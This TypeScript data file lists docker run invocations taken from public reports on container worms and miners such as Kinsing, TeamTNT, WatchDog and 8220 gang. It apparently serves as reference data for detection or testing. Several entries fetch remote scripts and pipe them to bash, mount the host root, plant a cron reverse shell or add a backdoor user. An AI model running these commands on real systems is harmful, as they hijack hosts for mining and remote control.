import { container } from '../entry';

/** Campaigns of droppers and worms as vendors described them in public; other addresses are those kept for documentation. */
export const WORMS = [
  container(
    'Kinsing: ubuntu installs wget and runs d.sh',
    'Aqua 2020',
    `-d --restart=always ubuntu:latest /bin/bash -c "apt-get update && apt-get install -y wget cron;service cron start; wget -q -O - 142.44.191.122/d.sh | sh;tail -f /dev/null"`,
  ),
  container(
    'Kinsing: host bound',
    'Aqua 2020',
    `-d -v /:/mnt ubuntu /bin/bash -c "chroot /mnt /bin/bash -c 'wget -q -O - http://217.12.221.244/d.sh | sh'"`,
  ),
  container('TeamTNT: dockgeddon', 'Aqua 2021', `-d --privileged --network host megawebmaster/dockgeddon:latest`),
  container('TeamTNT: borg worm image', 'Unit 42, Black-T', `-d --network host fuhou/borg`),
  container(
    'TeamTNT: zgrab over alpine',
    'Trend Micro 2020',
    `-d --privileged --network host -v /:/host alpine chroot /host bash -c "curl http://teamtnt.red/set/up.sh | bash"`,
  ),
  container(
    'TeamTNT: weave scope as a backdoor',
    'Intezer 2020',
    `-d --name weavescope --privileged --pid=host --network=host -v /:/host alpine chroot /host sh -c "curl -L http://kaiserfranz.cc/s | bash"`,
  ),
  container('Silentbob: jltest', 'Aqua 2023', `-d -p 0.0.0.0:8888:8888 shanidmk/jltest2`),
  container('Silentbob: sysapp tsunami', 'Aqua 2023', `-d --network host shanidmk/sysapp`),
  container('Silentbob: scanner 524470869/dscan', 'Aqua 2023', `-d 524470869/dscan`),
  container('Graboid: pocosow/centos', 'Unit 42 2019', `-d --restart always pocosow/centos`),
  container('Graboid: gakeaws/nginx', 'Unit 42 2019', `-d --name nginx gakeaws/nginx`),
  container(
    'WatchDog: cleaner first',
    'Unit 42 2021',
    `-d -v /:/mnt alpine chroot /mnt bash -c "chattr -iae /root/.ssh/; curl -fsSL http://198.51.100.60/newinit.sh | bash"`,
  ),
  container('z0miner', 'Netlab 360 2020', `-d ubuntu bash -c "curl -s http://203.0.113.55/z0.txt | bash"`),
  container(
    '8220 gang',
    'Talos and Lacework',
    `-d --network host alpine sh -c "wget -q -O - http://203.0.113.80/xms | bash -sh"`,
  ),
  container(
    'Autom',
    'Aqua 2021',
    `-d -v /:/host alpine sh -c "wget -O /tmp/autom.sh http://203.0.113.81/autom.sh; sh /tmp/autom.sh; adduser akay"`,
  ),
  container('docker123321', 'Kromtech 2018', `-d docker123321/tomcat11`),
  container(
    'docker123321 with cron',
    'Kromtech 2018',
    `-d -v /etc:/mnt/etc docker123321/cron sh -c "echo '* * * * * root bash -i >& /dev/tcp/203.0.113.1/443 0>&1' >> /mnt/etc/crontab"`,
  ),
  container('kannix', 'Forcepoint 2018', `-d kannix/monero-miner -o xmr.crypto-pool.fr:3333`),
  container(
    'heybb/theimg2: mac.sh',
    'seed of the incident',
    `-d --restart always -v /:/host heybb/theimg2:latest /bin/sh /mac.sh`,
  ),
  container(
    'zoolu/ubuntu',
    'seed of the incident',
    `-d --restart always zoolu/ubuntu bash -c "while true; do sleep 60; done"`,
  ),
  container('letter off: alp1ne', 'Aqua on lookalikes', `-d alp1ne sh`),
];
